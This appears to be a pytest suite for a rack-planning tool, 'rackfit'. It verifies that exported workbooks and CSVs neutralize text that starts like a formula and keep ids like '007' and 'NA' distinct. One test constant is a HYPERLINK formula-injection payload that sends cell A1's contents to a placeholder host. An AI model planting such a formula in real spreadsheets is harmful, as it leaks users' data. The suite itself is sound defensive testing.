"""Nothing a user typed comes back as a formula, and every id survives a round trip.

Workbooks rackfit writes hold text as string cells (never `<f>` formulas: checked in the XML
itself); CSVs it writes put a single quote before a text field that starts with `=`, `+`, `-`,
`@`, tab or CR (docs/outputs.md), and every reader takes it off again. Ids that look like
numbers (`007`, `1e3`, `TRUE`) stay text through `convert`."""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from clirun import rackfit

from optimizer.loaders import load_site
from optimizer.textsafe import neutralize, unneutralize

REPO = Path(__file__).resolve().parents[1]
SMALL = REPO / "data" / "small"
INJECTION = '=HYPERLINK("http://x.invalid/?"&A1,"train")'
# Ids that a spreadsheet or a number parser would change, and their partners that must stay
# distinct from them.
TRICKY_CLUSTERS = [
    "007", "7", "1e3", "1.50", "TRUE", "12345678901234567890", INJECTION, "+1-2", "-x", "@sum",
    "'quoted", "''=x", "NA", "null",
]  # fmt: skip


def formulas_in(book: Path) -> list[str]:
    """Every `<f>` (formula) element of every sheet of an .xlsx file."""
    with zipfile.ZipFile(book) as archive:
        return [
            f"{name}: {hit.decode()}"
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for hit in re.findall(rb"<f>.*?</f>", archive.read(name))
        ]


def rewrite(folder: Path, name: str, change) -> None:
    rows = list(csv.reader(io.StringIO((folder / name).read_text(encoding="utf-8"))))
    rows = change(rows)
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    (folder / name).write_text(out.getvalue(), encoding="utf-8")


def tricky_site(tmp_path: Path) -> Path:
    """data/small with a cluster for each tricky id (each like `infer`), written the way a
    spreadsheet user would write them: the ones that start like a formula neutralized."""
    site = tmp_path / "tricky"
    shutil.copytree(SMALL, site)

    def more(rows):
        infer = next(r for r in rows if r[0] == "infer")
        return rows + [[neutralize(c), *infer[1:]] for c in TRICKY_CLUSTERS]

    rewrite(site, "demand.csv", more)
    return site


@pytest.mark.parametrize(
    "text", ["=1+2", "+x", "-x", "@x", "'x", "''x", "'=x", "plain", "-5", "+1e3", "a=b"]
)
def test_neutralize_round_trips(text):
    assert unneutralize(neutralize(text)) == text
    assert not neutralize(text).startswith(("=", "+x", "-x", "@"))


def test_convert_keeps_every_id_and_writes_no_formula(tmp_path):
    site = tricky_site(tmp_path)
    folder_site = load_site(site)
    assert {c.cluster for c in folder_site.demand} >= set(TRICKY_CLUSTERS)
    book = tmp_path / "tricky.xlsx"
    rackfit("convert", site, book)
    assert formulas_in(book) == []
    assert load_site(book) == folder_site
    back = tmp_path / "back"
    rackfit("convert", book, back)
    assert load_site(back) == folder_site
    demand = (back / "demand.csv").read_text(encoding="utf-8")
    assert "\n\"'=HYPERLINK(" in demand and "\n'-x," in demand and "\n'@sum," in demand
    assert "\n007," in demand and "\n1e3," in demand and "\n1.50," in demand


def test_convert_keeps_rows_007_and_7_apart(tmp_path):
    """Finding 2: a valid site with rows `007` and `7` converted to a workbook that failed
    validation (both became 7)."""
    site = tmp_path / "site"
    shutil.copytree(SMALL, site)
    rewrite(
        site,
        "rows.csv",
        lambda rows: [*rows, ["A", "007", *rows[-1][2:]], ["A", "7", *rows[-1][2:]]],
    )
    book = tmp_path / "site.xlsx"
    rackfit("convert", site, book)
    rackfit("validate", book)
    assert load_site(book) == load_site(site)


def rename_hall(folder: Path, old: str, new: str) -> None:
    for name, column in (("rows.csv", 0), ("cooling.csv", 0)):
        rewrite(
            folder,
            name,
            lambda rows, c=column: [
                [new if i == c and v == old and k else v for i, v in enumerate(r)]
                for k, r in enumerate(rows)
            ],
        )


@pytest.fixture(scope="module")
def tricky_plan(tmp_path_factory):
    """A plan of data/small whose ids a spreadsheet would run or misread: a formula as the
    train cluster, `NA` as hall A (pandas reads NA as missing), `@row` as row A1."""
    tmp = tmp_path_factory.mktemp("tricky-plan")
    site = tmp / "site"
    shutil.copytree(SMALL, site)
    rewrite(
        site,
        "demand.csv",
        lambda rows: [[neutralize(INJECTION) if r[0] == "train" else r[0], *r[1:]] for r in rows],
    )
    rename_hall(site, "A", "NA")
    rewrite(
        site,
        "rows.csv",
        lambda rows: [[r[0], "'@row" if r[1] == "A1" else r[1], *r[2:]] for r in rows],
    )
    out = tmp / "plan"
    rackfit("plan", site, "--out", out, "-q")
    return site, out


def test_plan_workbook_holds_no_formula(tricky_plan):
    _, out = tricky_plan
    assert formulas_in(out / "plan.xlsx") == []
    import openpyxl

    book = openpyxl.load_workbook(out / "plan.xlsx")
    clusters = {c.value for c in book["clusters"]["A"][1:]}
    assert INJECTION in clusters  # shown as the text it is
    assert any(c.value == INJECTION for row in book["Summary"].iter_rows() for c in row)


def test_plan_csvs_neutralize_text_that_starts_like_a_formula(tricky_plan):
    _, out = tricky_plan
    placements = (out / "placements.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in placements and "\nNA,'@row," in placements
    for path in out.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for field in row:
                if field.startswith(("=", "+", "@", "\t", "\r")) or (
                    field.startswith("-") and not _is_number(field)
                ):
                    raise AssertionError(f"{path.name}: {field!r} would run as a formula")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("written", ["plan", "plan/plan.xlsx", "plan/placements.csv"])
def test_check_reads_its_own_plan_back(tricky_plan, written):
    """Finding 9: `check SITE plan.xlsx` failed on a hall named NA; neutralized ids must read
    back as themselves too."""
    site, out = tricky_plan
    result = rackfit("check", site, out.parent / written)
    assert ": OK:" in result.stdout


def test_plan_out_never_replaces_a_site_workbook(tmp_path):
    """Finding 1: `plan site.xlsx --out site.xlsx` replaced the site with the plan."""
    book = tmp_path / "site.xlsx"
    shutil.copy(REPO / "data" / "small.xlsx", book)
    before = book.read_bytes()
    result = rackfit("plan", book, "--out", book, code=2)
    assert "not a plan workbook" in result.stderr
    assert book.read_bytes() == before
    other = tmp_path / "notes.xlsx"
    other.write_bytes(b"anything")
    rackfit("plan", book, "--out", other, "-q", code=2)
    assert other.read_bytes() == b"anything"
    plan = tmp_path / "plan.xlsx"
    rackfit("plan", book, "--out", plan, "-q")
    rackfit("plan", book, "--out", plan, "-q")  # a plan workbook is replaced


def test_the_html_report_of_a_plan_folder_shows_the_ids_as_they_are(tricky_plan, tmp_path):
    """`rackfit report` reads the plan's CSVs back: a neutralized id shows without its quote
    and a hall named NA is not a missing value."""
    site, out = tricky_plan
    page = tmp_path / "report.html"
    rackfit("report", out, "--site", site, "--out", page)
    text = page.read_text(encoding="utf-8")
    assert "'=HYPERLINK" not in text and "=HYPERLINK" in text
    assert '"NA"' in text and "'@row" not in text
